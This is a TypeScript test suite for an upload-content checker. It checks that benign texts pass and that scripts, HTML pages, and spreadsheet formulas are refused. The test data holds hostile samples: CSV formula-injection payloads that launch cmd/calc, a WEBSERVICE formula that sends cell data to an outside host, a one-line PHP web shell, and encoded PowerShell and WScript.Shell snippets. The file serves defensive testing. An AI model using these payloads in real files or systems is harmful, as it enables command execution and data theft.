import { Refusal } from './refusal';
import { checkText } from './text';

const read = (content: string | Buffer, type: string) =>
  checkText(Buffer.from(content), type).then(
    () => '',
    (error: unknown) => {
      if (error instanceof Refusal) return error.message;
      throw error;
    },
  );

describe('texts are taken', () => {
  const taken: [string, string, string][] = [
    ['LaTeX that calls', 'tex', '\\documentclass{a}\\write18{ls}\n% new ActiveXObject("x")'],
    ['Markdown with markup', 'md', '<h1 align="center">题目</h1>\n\n<script>'],
    ['a text about pages', 'txt', '用 <script> 标签与 #!/bin/sh 的说明'],
    ['words that a program begins with', 'txt', 'MZ 双胞胎（同卵）研究'],
    ['numbers below zero', 'csv', '-1,+2,"=SUM(A1:A3)",@小明\n=A1*2\t-3|4!'],
    ['words with signs', 'csv', '姓名,评语\n张三,"哇 | 好!"\n-1,"a | b!"'],
    ['words behind many comments', 'txt', `${'<!---->'.repeat(500)}研究`],
    ['a table of addresses', 'csv', 'https://a.cn/?q=HYPERLINK(1)'],
  ];
  test.each(taken)('%s', async (_, type, content) => expect(await read(content, type)).toBe(''));
});

describe('what acts is refused', () => {
  const refused: [string, string, string | Buffer, RegExp][] = [
    ['a shell script', 'txt', '#!/bin/sh\nrm', /脚本/],
    ['a shell script behind blanks', 'txt', '\ufeff\n  #! /bin/sh', /脚本/],
    ['a script of Windows', 'txt', '@ECHO OFF\r\ncalc', /脚本/],
    ['a script with objects', 'txt', 'var a = new ActiveXObject("WScript.Shell")', /脚本/],
    ['a script for a server', 'md', '<?php system($_GET[0]);', /脚本/],
    ['an entry of the registry', 'txt', 'Windows Registry Editor Version 5.00', /脚本/],
    ['a shortcut', 'txt', '[InternetShortcut]\nURL=file://x', /脚本/],
    ['an encoded script', 'txt', '#@~^AAAA', /脚本/],
    ['a command', 'txt', 'powershell -enc AAAA', /脚本/],
    ['a page', 'txt', '<!-- x --><!DOCTYPE html><script>x</script>', /网页/],
    ['a page behind many comments', 'txt', `${'<!-- -->\n'.repeat(400)}<html>`, /网页/],
    ['a page behind a long comment', 'txt', `<?xml version="1.0"?>\n<!--${'x'.repeat(3000)}--><svg>`, /网页/],
    ['a page in UTF-16', 'txt', Buffer.from('\ufeff<html><script>x', 'utf16le'), /网页/],
    ['a drawing', 'bib', '<?xml version="1.0"?><svg xmlns="x" onload="x"/>', /网页/],
    ['a PDF of letters only', 'txt', '%PDF-1.4\n1 0 obj', /不符/],
    ['RTF', 'txt', '{\\rtf1\\objdata}', /不符/],
    ['a symbolic link to a table', 'csv', 'ID;PWXL;N;E', /CSV/],
    ['a formula that starts a program', 'csv', "=cmd|'/c calc'!A0", /公式/],
    ['one in quotes', 'csv', '1,"=cmd|\'/c calc,x\'!A0"', /公式/],
    ['one behind a sign', 'csv', "@SUM(1,1)*cmd|' /C calc'!A0", /公式/],
    ['one behind numbers', 'csv', "+1+2+cmd|' /C calc'!A0", /公式/],
    ['one behind a tab', 'csv', "a\t=MSEXCEL|'\\..\\cmd.exe /c calc'!''", /公式/],
    ['one in signs of Chinese keyboards', 'csv', "＝cmd|'/c calc'!A0", /公式/],
    ['one in UTF-16', 'csv', Buffer.from("\ufeff=cmd|'/c calc'!A0", 'utf16le'), /公式/],
    ['one far behind', 'csv', `${'a,b\n'.repeat(30_000)}=cmd|'/c calc'!A0`, /公式/],
    ['a formula that fetches', 'csv', '=WEBSERVICE("http://a.cn/"&A1)', /公式/],
    ['a formula that leads away', 'csv', '"=1+HYPERLINK(""http://a.cn"")"', /公式/],
  ];
  test.each(refused)('%s', async (_, type, content, why) => expect(await read(content, type)).toMatch(why));
});
